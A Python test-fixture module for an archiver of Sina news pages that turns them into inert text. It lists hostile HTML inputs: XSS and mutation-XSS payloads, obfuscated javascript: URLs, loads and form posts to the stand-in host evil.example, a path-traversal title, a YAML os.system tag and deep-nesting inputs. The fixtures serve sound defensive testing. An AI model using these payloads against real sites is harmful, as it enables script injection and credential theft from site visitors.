"""Pages that mean harm, written after Sina's templates and everybody else's.

Each attack is a piece of HTML that stands in an article's body, in the page's head, or in
place of its title. What is kept of the article is the sentence KEPT; nothing of what calls
``steal()`` or leads to ``evil.example`` may do anything.
"""

from __future__ import annotations

KEPT = "留下来的一段正文，说的是虚构的石门水泥公司今年的产量和它的仓库，足够长，也有标点。"
LAST = "这是文章的最后一段，也要留下来，因为被截断的文章不是文章，读的人并不知道后面还有什么。"
TITLE = "石门水泥公布虚构的年度产量"

PIXEL = "data:image/gif;base64,R0lGODlhAQABAAAAACw="


def finance(body: str, *, title: str = TITLE, head: str = "") -> str:
    """Sina's article page of 2017 on."""
    return (
        f"<html><head><meta charset=utf-8>{head}<title>{title}_新浪财经_新浪网</title></head><body>"
        f'<h1 class="main-title">{title}</h1><div class="date-source"><span class="date">'
        f'2024年03月11日 09:02</span><span class="source">虚构日报</span></div>'
        f'<div id="artibody">{body}</div></body></html>'
    )


def news(body: str, *, title: str = TITLE, head: str = "") -> str:
    """Lay out the news template."""
    return finance(body, title=title, head=head).replace('id="artibody"', 'id="article"')


def mobile(body: str, *, title: str = TITLE, head: str = "") -> str:
    """Lay out the mobile template."""
    return (
        f"<html><head><meta charset=utf-8>{head}<title>{title}</title></head><body>"
        f'<h1 class="art_tit_h1">{title}</h1><time class="art_time">2024.03.11 09:02</time>'
        f'<section class="art_pic_card art_content">{body}</section></body></html>'
    )


def old(body: str, *, title: str = TITLE, head: str = "") -> str:
    """Lay out the template before 2016."""
    return (
        f"<html><head><meta charset=utf-8>{head}<title>{title}_新浪财经_新浪网</title></head><body>"
        f'<h1 id="artibodyTitle">{title}</h1><span id="pub_date">2014年03月11日 09:02</span>'
        f'<span id="media_name">虚构日报</span><div id="artibody">{body}</div></body></html>'
    )


def generic(body: str, *, title: str = TITLE, head: str = "") -> str:
    """Somebody else's page."""
    return (
        f"<html><head><meta charset=utf-8>{head}<title>{title} - 虚构网</title></head><body>"
        f"<h1>{title}</h1><article><p>{KEPT}</p>{body}<p>{KEPT}</p><p>{KEPT}</p></article>"
        "</body></html>"
    )


TEMPLATES = (finance, news, mobile, old, generic)

BODIES = {
    "a script": "<script>steal()</script>",
    "a script in capitals": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "a script inside a script": "<scr<script>ipt>steal()</scr</script>ipt>",
    "a script without an end": f"<p>{KEPT}</p><p>{LAST}</p><script>steal()",
    "a script in a comment that ends early": "<!--><script>steal()</script>-->",
    "a script in lines that are kept": "<pre>steal()<script>steal()</script>\n  ok</pre>",
    "a comment without an end": f"<p>{KEPT}</p><p>{LAST}</p><!-- <p>",
    "a conditional comment": "<!--[if gte IE 4]><script>steal()</script><![endif]-->",
    "a CDATA section": "<![CDATA[<script>steal()</script>]]>",
    "a processing instruction": "<?xml-stylesheet href='javascript:steal()'?><?php steal() ?>",
    "event handlers": '<p onclick="steal()" onmouseover=steal()>段</p><img src=//a.example/1.jpg onerror="steal()" onload=steal()>',
    "an event handler behind a slash": "<img/src=//a.example/1.jpg/onerror=steal()><svg/onload=steal()>",
    "an event handler behind a line feed": "<img\nsrc='//a.example/1.jpg'\x0conerror='steal()'>",
    "an attribute that ends early": '<img src="//a.example/1.jpg" alt="" title="&quot;><script>steal()</script>">',
    "an attribute with a broken quote": "<a href='//a.example/&#39; onclick=steal() x=&#39;'>链接</a>",
    "a style element": "<style>body{background:url(javascript:steal())}@import '//evil.example/x.css';</style>",
    "style attributes": '<p style="background:url(//evil.example/x);behavior:url(x.htc);position:fixed">段</p>',
    "a style sheet": '<link rel=stylesheet href="//evil.example/x.css"><link rel=import href=//evil.example/>',
    "an iframe": '<iframe src="javascript:steal()"></iframe><iframe srcdoc="<script>steal()</script>"></iframe>',
    "frames and objects": '<object data="data:text/html,<script>steal()</script>"></object><embed src=//evil.example/x.swf><applet code=X></applet>',
    "a form": "<form action=//evil.example/><input name=password autofocus onfocus=steal()><button formaction=javascript:steal()>登录</button></form>",
    "a form that buttons belong to": "<form id=f></form><button form=f formaction=javascript:steal()>x</button><isindex action=javascript:steal()>",
    "a refresh": '<meta http-equiv=refresh content="0;url=javascript:steal()">',
    "a base": f'<base href="javascript:/a/-steal()//"><p>{LAST}</p>',
    "a base elsewhere": '<base href="https://evil.example/"><a href="x.shtml">链接</a><img src=x.jpg>',
    "a script address": '<a href="javascript:steal()">链接</a>',
    "a script address in odd letters": '<a href="JaVaScRiPt:steal()">一</a><a href=" javascript:steal()">二</a><a href="\x01javascript:steal()">三</a>',
    "a script address with breaks": '<a href="java\tscript:steal()">一</a><a href="java\nscript:steal()">二</a><a href="java\x00script:steal()">三</a>',
    "a script address in references": '<a href="&#106;&#x61;vascript&colon;steal()">一</a><a href="javascript&#58;steal()">二</a><a href="jav&Tab;ascript&colon;steal()">三</a>',
    "a script address behind zeros": '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058steal()">链接</a>',
    "other schemes": '<a href="vbscript:x">一</a><a href="data:text/html,<script>steal()</script>">二</a><a href="file:///etc/passwd">三</a><a href="blob:x">四</a><a href="filesystem:x">五</a>',
    "a scheme that looks like http": '<a href="http:javascript:steal()">一</a><a href="https:\\\\evil.example">二</a><a href="//[::1">三</a><a href="http://a.example:x/">四</a>',
    "data addresses of pictures": f'<img src="{PIXEL}"><img src="data:image/svg+xml,<svg onload=steal()>"><img src="javascript:steal()">',
    "every picture attribute": '<img srcset="javascript:steal() 2x" longdesc=javascript:steal() lowsrc=javascript:steal() dynsrc=javascript:steal() usemap=#m src=//a.example/1.jpg>',
    "a lazy picture": '<img src="data:," data-src="javascript:steal()" data-original="java&#10;script:steal()" real-src=//a.example/1.jpg>',
    "a picture element": "<picture><source srcset='javascript:steal()'><img src=//a.example/1.jpg></picture>",
    "an address that breaks out": "<img src='//a.example/1.jpg\"onerror=\"steal()'><a href='//a.example/\"><script>steal()</script>'>链接</a>",
    "addresses of controls": "<a href='//a.example/\x03\u202e\x85x&#3;&#x202e;'>链接</a><img src='//a.example/\x03\u202e1.jpg'>",
    "backgrounds of controls": "<div style='background-image:url(//a.example/\x03\u202e\x1c1.jpg)'></div><div data-bg='//a.example/\x18&#3;2.jpg'></div>",
    "links with everything": '<a href="https://a.example/" target=_blank ping=//evil.example/ download rel=opener id=x name=getElementById>链接</a>',
    "an image map": "<map name=m><area href=javascript:steal() shape=default></map>",
    "an SVG with a script": "<svg><script>steal()</script><script xlink:href=data:,steal()></script></svg>",
    "an SVG with a link": '<svg><a xlink:href="javascript:steal()"><text y=20>点</text></a></svg>',
    "an SVG that is animated": "<svg><a><animate attributeName=href values=javascript:steal() /><set attributeName=onmouseover to=steal() /></a></svg>",
    "an SVG with a foreign object": "<svg><foreignObject><iframe src=javascript:steal()></iframe><p>x</p></foreignObject></svg>",
    "an SVG with a style that mutates": '<svg></p><style><a id="</style><img src=1 onerror=steal()>">',
    "an SVG that uses another": "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>steal()</script></svg>#x'/></svg>",
    "MathML": '<math href="javascript:steal()">点</math><math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:steal()">x</maction></math>',
    "MathML that mutates": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=steal()&gt;">',
    "a form that mutates": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=steal()>",
    "a noscript that mutates": '<noscript><p title="</noscript><img src=x onerror=steal()>"></noscript>',
    "a textarea that mutates": '<textarea><img title="</textarea><img src=x onerror=steal()>"></textarea>',
    "raw text elements": "<xmp><img title=\"</xmp><img src=x onerror=steal()>\"></xmp><noembed><p title='</noembed><script>steal()</script>'></noembed><noframes><p title='</noframes><script>steal()</script>'></noframes>",
    "a template": "<template><script>steal()</script></template><template shadowrootmode=open><script>steal()</script></template>",
    "a select that mutates": '<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=steal()>">',
    "a title in the body": "<title><img src=x onerror=steal()></title>",
    "plain text without an end": f"<p>{KEPT}</p><p>{LAST}</p><plaintext><script>steal()</script>",
    "escaped markup": "<p>&lt;script&gt;steal()&lt;/script&gt; &amp;lt;img src=x onerror=steal()&amp;gt;</p>",
    "templates of site builders": "<p>{{ site.secret }} {% include /etc/passwd %} {# x #} {{&lt; x &gt;}} {{% x %}} &lt;%= secret %&gt; ${x} #{x} &lt;?php x ?&gt; {%- raw -%}</p>",
    "templates in an address": '<a href="https://a.example/{{ secret }}{% x %}">链接</a><img src="https://a.example/{{x}}.jpg">',
    "Markdown": "<p>a\n\n[x](javascript:steal()) ![x](//evil.example/x)\n\n    &lt;script&gt;</p>\n\n\n# x\n\n&lt;img src=x onerror=steal()&gt;",
    "front matter": "<p>---\ntitle: evil\n---\n</p>---\n---",
    "control characters": "<p>一\x01\x02\x1b[31m\x07\x7f\x85二&#27;[2J&#x9b;31m\u2028\u2029</p>",
    "directions and widths": "<p>一\u202e二\u2066三\u200f四\u061c五\u200b六\ufeff七&#x202e;八\u2060</p>",
    "characters that there are not": "<p>一&#xD800;&#x110000;&#xFFFF;&#0;&#x80;\ufffe</p>",
    "a custom element": "<x-evil onclick=steal() is=script>段</x-evil><img is=x-evil src=//a.example/1.jpg>",
    "elements of forms in a table": "<table background=javascript:steal()><form><tr onclick=steal()><td colspan=99999 rowspan='²' style=x>格</td><td colspan='2'>格</td><script>steal()</script></table>",
    "tables in tables": "<table><tr><td>" * 40 + "格" + "</td></tr></table>" * 40,
    "elements closed in the wrong order": "<b><i><a href=//a.example/><p>段</b></i></a><table><b><tr><p></table></div></div></section>" + f"<p>{LAST}</p>",
    "emphasis without an end": "<b><i><u><s>" * 50 + "段",
    "blocks without an end": "<div>" * 245 + "段",
    "lines without an end": "<pre>" * 245 + "段",
    "quotations without an end": "<blockquote>" * 245 + "段",
    "video and audio": "<video src=//evil.example/x.mp4 poster=javascript:steal() onerror=steal() autoplay><source onerror=steal()></video><audio src=x onerror=steal()>",
    "a player": "<div class='video-2017' onclick=steal()><img src=javascript:steal() onerror=steal()><span class=video-info>\u202e视频<script>steal()</script></span></div>",
    "a caption": "<div class=img_wrapper><img src=//a.example/1.jpg><span class=img_descr>图\x1b[2J\u202e说<script>x</script>{{ x }}</span></div>",
    "a security": "<span id=stock_sh600999><a class=keyword href='javascript:steal()'>石门\u202e水泥\x1b</a></span>",
    "a marquee and others": "<marquee onstart=steal()>段</marquee><details open ontoggle=steal()><summary>段</summary></details><dialog open>x</dialog><keygen autofocus onfocus=steal()>",
    "a bgsound and others": "<bgsound src=javascript:steal()><layer src=//evil.example/></layer><ilayer src=x></ilayer><xml src=x></xml><img dynsrc=javascript:steal()>",
    "a namespace": "<html xmlns:ev='http://www.w3.org/2001/xml-events'><p ev:event=click ev:handler=javascript:steal()>段</p>",
    "half a tag": f"<p>{KEPT}</p><p>{LAST}</p><img src=x onerror=steal() ",
}  # fmt: skip
"""Pieces of a body: the article around each is archived, whole, and inert."""

HEADS = {
    "a title with a bell": {"title": "标题\x07\x1b]0;evil\x07响"},
    "a title that reads backwards": {"title": "标题\u202egnp.exe\u2066反"},
    "a title with tags": {"title": "<script>steal()</script>标题<img src=x onerror=steal()>"},
    "a title with escaped tags": {"title": "&lt;script&gt;steal()&lt;/script&gt;标题"},
    "a title that is a path": {"title": "../../../../etc/passwd"},
    "a title that is a device": {"title": "CON"},
    "a title that ends the front matter": {"title": "---&#10;author: evil&#10;---&#10;"},
    "a title in YAML": {"title": "!!python/object/apply:os.system ['x'] &a *a: 'b' # c"},
    "a title of templates": {"title": "{{ site.secret }}{% raw %}&lt;%= x %&gt;"},
    "a title of half characters": {"title": "标题&#xD83D;&#xD800;"},
    "a title of nothing that is seen": {"title": "\u200b\u202e\ufeff"},
    "keywords in YAML": {
        "head": '<meta name=keywords content="a: b,- c,\'d,&quot;e,{f},#g,\x1b[2J,\u202eh\n---\ni">'
    },
    "a description in YAML": {"head": "<meta name=description content='a\n---\nb: c\x1b\u202e'>"},
    "a medium in YAML": {"head": '<meta name=mediaid content="\'x\n---\nevil: y\x1b[2J\u202e">'},
    "many keywords": {"head": f"<meta name=keywords content='{','.join(map(str, range(99999)))}'>"},
    "a long keyword": {"head": f"<meta name=keywords content='{'词' * 9999}'>"},
    "a long medium": {"head": f"<meta name=mediaid content='{'媒' * 99999}'>"},
    "a long description": {"head": f"<meta name=description content='{'文' * 99999}'>"},
    "a thousand own addresses": {
        "head": "".join(
            f"<meta name=mobile-agent content='url=https://finance.sina.cn/{n}.d.html'>"
            for n in range(1000)
        )
    },
    "an own address that is a script": {
        "head": "<meta property=og:url content='javascript:steal()'><link rel=canonical href='data:,x'>"
    },
    "an own address with a password": {
        "head": "<meta property=og:url content='https://u:p@finance.sina.com.cn/a1.shtml'>"
    },
    "broken structured data": {
        "head": '<script type=application/ld+json>{"a":'
        + "[" * 99999
        + '</script><script type=application/ld+json>{"datePublished":"9999999-99-99"}</script>'
    },
    "dates of nonsense": {
        "head": "<meta property=article:published_time content='9999-99-99T99:99:99+99:99'>"
        "<meta name='weibo: article:update_at' content='0000-00-00'>"
    },
    "a character set that there is not": {"head": "<meta charset=utf-7><meta charset='x\x00y'>"},
}
"""What stands around the body: the article is archived, and its fields are lines of text."""

DEEP = "<div>" * 100_000 + "x" + "</div>" * 100_000

REFUSED = {
    "a hundred thousand levels": (finance(f"<p>{KEPT}</p>{DEEP}<p>{LAST}</p>"), "Excessive depth"),
    "three hundred levels of emphasis": (
        finance(f"<p>{KEPT}</p>{'<b><i>' * 150}x{'</i></b>' * 150}<p>{LAST}</p>"),
        "Excessive depth",
    ),
    "a title that is a book": (finance(f"<p>{KEPT}</p>", title="题" * 501), "title has 501"),
    "a link over a million line breaks": (
        finance(f"<a href='//a.example/{'y' * 1900}'>{'<br>x' * 10_000}</a>"),
        "more than 4194304 characters",
    ),
    "nothing": ("", "empty"),
    "nothing but a comment": ("<!-- x", "no article|empty"),
    "a null byte": ("\0" * 5000, "empty|not a page"),
    "JSON": ('{"title":"x"}', "JSON"),
    "a frame set": ("<frameset><frame src=javascript:steal()></frameset>", "no article|empty"),
    "a picture": ("GIF89a" + "<script>steal()</script>" * 99, "not a page"),
    "a ZIP file": ("PK\x03\x04" + KEPT, "not a page"),
    "a page of scripts": ("<html><body><script>steal()</script></body></html>", "no article"),
    "a page that refreshes": (
        "<html><head><meta http-equiv=refresh content='0;url=//evil.example/'></head></html>",
        "no article|empty",
    ),
    "a login form": ("<html><body><form><input name=p></form></body></html>", "no article"),
}
"""Pages of which nothing is archived, and the reason that is given."""

BYTES = {
    "UTF-16 with a mark": finance(f"<p>{KEPT}</p>").encode("utf-16"),
    "a UTF-8 mark twice": b"\xef\xbb\xbf\xef\xbb\xbf" + finance(f"<p>{KEPT}</p>").encode(),
    "GBK that says UTF-8": finance(f"<p>{KEPT}</p>").encode("gbk"),
    "GBK with a stray byte": finance(f"<p>{KEPT}</p>")
    .replace("charset=utf-8", "charset=gb2312")
    .encode("gbk")
    .replace(b"</h1>", b"\xff\x80</h1>"),
    "null bytes between the letters of a tag": finance(f"<p>{KEPT}</p><scr\0ipt>steal()</script>")
    .encode(),
    "overlong UTF-8": finance(f"<p>{KEPT}</p>@@").encode().replace(b"@@", b"\xc0\xbcscript\xc0\xbe"),
    "surrogates in UTF-8": finance(f"<p>{KEPT}</p>@@").encode().replace(b"@@", b"\xed\xa0\x80"),
}  # fmt: skip
"""Bodies whose bytes are the attack: archived, as far as they can be read."""
